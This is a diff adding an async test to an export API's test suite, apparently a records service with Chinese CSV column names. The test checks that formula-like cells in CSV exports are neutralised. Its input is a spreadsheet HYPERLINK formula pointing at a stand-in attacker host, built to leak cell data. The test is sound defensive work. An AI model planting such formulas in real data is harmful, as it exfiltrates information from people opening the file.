@@ -64,3 +64,15 @@ async def test_inspectors_cannot_export(client, inspector) -> None:
         "/exports/supervision-actions?since=2026-01-01&until=2026-02-01", headers=inspector.headers
     )
     assert answer.status_code == 403
+
+
+async def test_a_formula_like_cell_in_the_csv_is_neutralised(client, inspector, partner, head) -> None:
+    body = record_create(inspector, partner)
+    body["content"]["occurred_at"] = dt.datetime(2026, 11, 21, 9, tzinfo=dt.UTC).isoformat()
+    body["content"]["party"]["name"] = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
+    answer = await client.post("/records", json=body, headers=inspector.headers)
+    assert answer.status_code == 201, answer.text
+    query = "since=2026-11-21&until=2026-11-22&format=csv"
+    exported = (await client.get(f"/exports/supervision-actions?{query}", headers=head.headers)).text
+    [row] = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))) if r["行为编号"] == body["id"]]
+    assert row["监管对象名称"] == "'" + body["content"]["party"]["name"]
